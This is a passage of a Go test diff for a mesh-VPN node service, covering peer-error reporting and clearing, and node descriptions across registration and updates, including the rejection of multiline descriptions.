+	id := insertRotationTestNode(t, db, "spoke-1", "spoke", testPublicKey(1), "10.100.1.2", time.Now())
+
+	loadNode := func() models.Node {
+		t.Helper()
+		var node models.Node
+		if err := db.Select("peer_errors", "peer_errors_reported_at").Where("id = ?", id).First(&node).Error; err != nil {
+			t.Fatalf("failed to load node: %v", err)
+		}
+		return node
+	}
+
+	reportedAt := time.Now().Add(-time.Minute).UTC().Truncate(time.Second)
+	err := service.ReportPeerErrors(ctx, id, types.PeerApplyReport{
+		Applied:    2,
+		Skipped:    []types.PeerApplyError{{PublicKey: testPublicKey(2), Error: "invalid allowed IP"}},
+		ReportedAt: reportedAt,
+	})
+	if err != nil {
+		t.Fatalf("ReportPeerErrors failed: %v", err)
+	}
+	node := loadNode()
+	if len(node.PeerErrors) != 1 || node.PeerErrors[0].PublicKey != testPublicKey(2) || node.PeerErrors[0].Error != "invalid allowed IP" {
+		t.Errorf("expected the skipped peer to be recorded, got %+v", node.PeerErrors)
+	}
+	if node.PeerErrorsReportedAt == nil || !node.PeerErrorsReportedAt.Equal(reportedAt) {
+		t.Errorf("expected the report time %v, got %v", reportedAt, node.PeerErrorsReportedAt)
+	}
+
+	// A clean report clears them
+	if err := service.ReportPeerErrors(ctx, id, types.PeerApplyReport{Applied: 3}); err != nil {
+		t.Fatalf("ReportPeerErrors failed: %v", err)
+	}
+	if node := loadNode(); len(node.PeerErrors) != 0 || node.PeerErrorsReportedAt == nil {
+		t.Errorf("expected the peer errors to be cleared, got %+v", node.PeerErrors)
+	}
+
+	if err := service.ReportPeerErrors(ctx, uuid.New(), types.PeerApplyReport{}); !errors.Is(err, ErrNodeNotFound) {
+		t.Errorf("expected ErrNodeNotFound for an unknown node, got %v", err)
+	}
+}
+
+func TestNodeDescriptionRoundTrip(t *testing.T) {
+	service, db := newKeyRotationTestService(t, 0)
+	addRegistrationColumns(t, db)
+	ctx := context.Background()
+
+	node, err := service.RegisterNode(ctx, types.NodeRegistrationRequest{
+		Name:        "hub-1",
+		Description: "Frankfurt rack 4",
+		NodeType:    "hub",
+		PublicKey:   rotationHubKey,
+		Endpoint:    "hub-1.example.com",
+		Port:        51820,
+	})
+	if err != nil {
+		t.Fatalf("RegisterNode failed: %v", err)
+	}
+
+	description := func() string {
+		t.Helper()
+		stored, err := service.GetNode(ctx, node.ID)
+		if err != nil {
+			t.Fatalf("GetNode failed: %v", err)
+		}
+		return stored.Description
+	}
+	if got := description(); got != "Frankfurt rack 4" {
+		t.Errorf("expected the registered description, got %q", got)
+	}
+
+	moved := "Frankfurt rack 7"
+	if _, err := service.UpdateNode(ctx, node.ID, types.NodeUpdateRequest{Description: &moved}); err != nil {
+		t.Fatalf("UpdateNode failed: %v", err)
+	}
+	if got := description(); got != moved {
+		t.Errorf("expected the updated description, got %q", got)
+	}
+
+	// Leaving the description out of an update keeps it
+	keepalive := 25
+	if _, err := service.UpdateNode(ctx, node.ID, types.NodeUpdateRequest{PersistentKeepalive: &keepalive}); err != nil {
+		t.Fatalf("UpdateNode failed: %v", err)
+	}
+	if got := description(); got != moved {
+		t.Errorf("expected the description to be kept, got %q", got)
+	}
+
+	cleared := ""
+	if _, err := service.UpdateNode(ctx, node.ID, types.NodeUpdateRequest{Description: &cleared}); err != nil {
+		t.Fatalf("UpdateNode failed: %v", err)
+	}
+	if got := description(); got != "" {
+		t.Errorf("expected the description to be cleared, got %q", got)
+	}
+
+	multiline := "line one\nline two"
+	if _, err := service.UpdateNode(ctx, node.ID, types.NodeUpdateRequest{Description: &multiline}); !errors.Is(err, types.ErrControlChars) {
+		t.Errorf("expected a multiline description to be rejected, got %v", err)
+	}
+}